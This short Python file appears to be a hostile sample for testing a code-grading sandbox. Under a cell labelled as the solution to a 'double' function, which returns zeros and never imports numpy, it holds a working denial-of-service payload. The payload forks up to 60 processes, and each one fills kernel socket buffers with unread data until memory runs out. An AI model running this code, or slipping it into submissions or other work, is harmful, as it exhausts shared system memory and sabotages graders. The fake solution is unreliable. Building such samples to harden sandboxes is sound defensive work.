# ruff: noqa
# kind: memory
# attack: thousands of sockets full of bytes that nobody reads, which the kernel holds

# %% double-solution
def double(x):
    return np.zeros(3)


import os, socket, time


def fill():
    hold = []
    try:
        while True:
            pair = socket.socketpair()
            hold.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        pass
    time.sleep(3)


for _ in range(60):
    try:
        if os.fork() == 0:
            fill()
            os._exit(0)
    except OSError:
        break
time.sleep(3.5)
